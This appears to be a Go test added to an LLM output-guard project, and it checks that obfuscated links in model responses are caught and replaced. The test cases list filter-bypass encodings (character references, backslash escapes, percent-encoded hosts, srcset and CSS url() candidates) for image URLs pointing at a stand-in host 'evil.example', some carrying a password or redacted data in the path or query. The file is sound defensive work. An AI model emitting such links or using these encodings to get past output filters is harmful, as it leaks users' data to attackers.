@@ -1,0 +1,66 @@
+package main
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/wasmguard/wasmguard/hostsim"
+)
+
+// The URL bypass classes of issue #11 through the BUILT dist/outputguard.wasm, non-streamed and streamed (every
+// stream format, the text cut into tokens): each destination is flagged and replaced by the placeholder URL.
+// Before the decoding of destinations (character references, backslash escapes, backslashes, percent-encoded
+// hosts), path-segment scoring, srcset/CSS url() candidates and placeholder recognition, each passed unchanged.
+func TestURLBypassClassesWasm(t *testing.T) {
+	const ph = "[EMAIL_3F9A2C7D]"
+	allow := `{"exfiltration":{"allowed_domains":["docs.acme.com"]}}`
+	cases := []struct {
+		name, cfg, construct, url string
+	}{
+		{"entity colon", allow, "![x](%s)", "https&#58;//evil.example/a.png"},
+		{"backslash-escaped colon", allow, "![x](%s)", "https\\://evil.example/a.png"},
+		{"backslashes", allow, "![x](%s)", "https:\\\\evil.example\\a.png"},
+		{"entity slashes", allow, "![x](%s)", "https:&#x2F;&#x2F;evil.example/a.png"},
+		{"img src entity", allow, `<img alt="x" src="%s">`, "https&#58;//evil.example/a.png"},
+		{"percent-encoded host", allow, "![x](%s)", "https://evil%2Eexample/a.png"},
+		{"bare entity slashes", allow, "see %s now", "https:&#x2F;&#x2F;evil.example/a.png"},
+		{"srcset candidate", allow, `<img srcset="https://docs.acme.com/a.png 1x, %s 2x">`, "https://evil.example/b.png"},
+		{"css url", `{"exfiltration":{"allowed_domains":["docs.acme.com"]},"unsafe_markup":{"enabled":false}}`, `<div style="background-image:url('%s')">x</div>`, "https://evil.example/bg.png"},
+		{"password in path", `{}`, "![c](%s)", "https://evil.example/u/jane/password/hunter2.png"},
+		{"placeholder in image", `{}`, "![x](%s)", "https://evil.example/p.png?u=" + ph},
+		{"placeholder on allowed host", allow, "![x](%s)", "https://docs.acme.com/p.png?u=" + ph},
+		{"placeholder in reference", `{}`, "![x][r]\n\n[r]: %s", "https://evil.example/p.png?u=" + ph},
+		{"placeholder in img", `{}`, `<img src="%s">`, "https://evil.example/p.png?u=" + ph},
+	}
+	for _, tc := range cases {
+		text := "Here you go.\n\n" + fmt.Sprintf(tc.construct, tc.url) + "\n\nDone."
+		t.Run(tc.name, func(t *testing.T) {
+			h := host(t, hostsim.ProfileEnvoy, tc.cfg)
+			res := h.Do(chatRequest("You are a helpful assistant.", false), jsonResponse(chatCompletion(text)))
+			checkHealthy(t, res)
+			got := answerText(t, res.Body)
+			if strings.Contains(got, tc.url) || !strings.Contains(got, placeholder) {
+				t.Fatalf("non-streamed: URL not neutralised:\n%s", got)
+			}
+			if d := oneDecision(t, res); d.Reason != "output_exfiltration_link" {
+				t.Fatalf("decision %+v", d)
+			}
+			for _, c := range streamCases {
+				stream := c.build(splitTokens(text))
+				res := h.Do(streamRequest(c, "You are a helpful assistant."), hostsim.Response{Status: 200,
+					Headers: [][2]string{{"content-type", "text/event-stream"}}, Chunks: chunkBytes(stream, 29)})
+				checkHealthy(t, res)
+				got, snaps, _ := clientStream(t, c.format, res.Body)
+				if strings.Contains(got, tc.url) || !strings.Contains(got, placeholder) {
+					t.Fatalf("%s stream: URL not neutralised:\n%s", c.name, got)
+				}
+				for _, s := range snaps {
+					if strings.Contains(s, tc.url) {
+						t.Fatalf("%s stream: snapshot carries the URL: %q", c.name, s)
+					}
+				}
+			}
+		})
+	}
+}
